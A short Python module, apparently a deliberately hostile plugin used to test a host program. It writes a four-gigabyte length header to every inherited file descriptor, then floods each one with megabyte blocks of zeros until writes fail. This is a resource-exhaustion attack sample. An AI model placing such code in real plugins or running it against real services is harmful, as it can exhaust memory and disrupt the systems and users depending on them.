"""Announces a message of four gigabytes on every descriptor that it was given, and begins to send it."""

import os


def send() -> None:
    descriptors = []
    for descriptor in range(3, 256):
        try:
            os.write(descriptor, b"\xff\xff\xff\xff")
            descriptors.append(descriptor)
        except OSError:
            pass
    while descriptors:
        for descriptor in list(descriptors):
            try:
                os.write(descriptor, bytes(1 << 20))
            except BlockingIOError:
                pass
            except OSError:
                descriptors.remove(descriptor)


async def main(host):
    send()
